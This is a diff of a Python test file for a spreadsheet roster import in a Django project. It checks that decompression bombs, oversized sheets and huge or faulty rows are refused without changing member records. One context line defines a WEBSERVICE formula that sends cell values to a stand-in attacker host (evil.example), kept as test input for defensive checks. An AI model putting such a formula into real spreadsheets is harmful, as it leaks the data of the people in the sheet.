@@ -10,7 +10,7 @@ import pytest
 from django.utils import translation
 
 from xieshang.core import spreadsheets
-from xieshang.core.models import AuditEntry
+from xieshang.core.testing import assert_nothing_changed
 from xieshang.core.tests import hostile_files as hostile
 from xieshang.core.tests.workbooks import texts, unsafe_cells
 from xieshang.councils.models import Member, SpecialCommittee
@@ -21,7 +21,6 @@ from xieshang.councils.tests.rosters import (
     HEADERS,
     TEMPLATE,
     errors_by_row,
-    imported,
     make_bodies,
     post,
     row,
@@ -38,10 +37,6 @@ WEBSERVICE = '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(E2)&ENCODEURL(F2))
 @pytest.fixture
 def bodies(cast):
     return make_bodies(cast)
-
-
-def nothing_imported() -> bool:
-    return imported() == 0 and not AuditEntry.objects.filter(action="member.import").exists()
 
 
 # ---------------------------------------------------------------- formulas
@@ -88,28 +83,26 @@ def test_a_roster_that_unpacks_to_a_gigabyte_is_refused_before_it_is_parsed(clie
         raise AssertionError("a bomb must be refused before openpyxl parses it")
 
     monkeypatch.setattr(spreadsheets, "load_workbook", parse)
-    with translation.override("en"):
+    with translation.override("en"), assert_nothing_changed(Member):
         response = post(clients["admin"], cast, hostile.xlsx_bomb())
     assert response.status_code == 200
     assert "would unpack to more than" in response.context["result"].problem
     assert len(response.content) < 50_000
-    assert nothing_imported()
 
 
 def test_a_sheet_with_more_rows_than_the_limit_is_refused(clients, cast, bodies):
-    with translation.override("en"):
-        response = post(clients["admin"], cast, xlsx([{"姓名": f"导入委员{i}"} for i in range(MAX_ROWS)]))
+    content = xlsx([{"姓名": f"导入委员{i}"} for i in range(MAX_ROWS)])
+    with translation.override("en"), assert_nothing_changed(Member):
+        response = post(clients["admin"], cast, content)
     assert f"more than {MAX_ROWS} rows" in response.context["result"].problem
-    assert nothing_imported()
 
 
 def test_a_sheet_with_more_columns_than_the_limit_is_refused(clients, cast, bodies):
     extra = [f"备注{i}" for i in range(MAX_COLUMNS - len(HEADERS) + 1)]
     content = xlsx([{**row(1), extra[-1]: "多出的一列"}], headers=HEADERS + extra)
-    with translation.override("en"):
+    with translation.override("en"), assert_nothing_changed(Member):
         response = post(clients["admin"], cast, content)
     assert f"more than {MAX_COLUMNS} columns" in response.context["result"].problem
-    assert nothing_imported()
 
 
 # ---------------------------------------------------------------- error lists
@@ -117,20 +110,20 @@ def test_a_sheet_with_more_columns_than_the_limit_is_refused(clients, cast, bodi
 
 def test_row_errors_quote_only_the_start_of_a_cell(clients, cast, bodies):
     huge = {"姓名": "名" * 10_000, "性别": "未" * 10_000, "出生日期": "七" * 10_000, "界别": "界" * 10_000}
-    response = post(clients["admin"], cast, xlsx([row(1, **huge)]))
+    with assert_nothing_changed(Member):
+        response = post(clients["admin"], cast, xlsx([row(1, **huge)]))
     [error] = response.context["result"].errors
     assert error.full_name == "名" * QUOTED_CHARS + "…"
     for reason in error.reasons:
         assert len(reason) < QUOTED_CHARS + 120, reason
     assert "未" * QUOTED_CHARS + "…" in " ".join(error.reasons)
     assert len(response.content) < 50_000
-    assert nothing_imported()
 
 
 def test_only_so_many_bad_rows_are_listed_and_the_rest_counted(clients, cast, bodies):
     bad = MAX_LISTED_ERRORS + 10
     content = xlsx([row(i, 性别="未知") for i in range(bad)] + [row(bad)])
-    with translation.override("en"):
+    with translation.override("en"), assert_nothing_changed(Member):
         response = post(clients["admin"], cast, content)
     result = response.context["result"]
     assert len(result.errors) == MAX_LISTED_ERRORS and result.error_count == bad
@@ -139,4 +132,3 @@ def test_only_so_many_bad_rows_are_listed_and_the_rest_counted(clients, cast, bo
     assert f"{bad} rows need correcting" in body
     assert f"The first {MAX_LISTED_ERRORS} are listed below; 10 more rows also need correcting." in body
     assert body.count('data-testid="import-error-row"') == MAX_LISTED_ERRORS
-    assert nothing_imported()
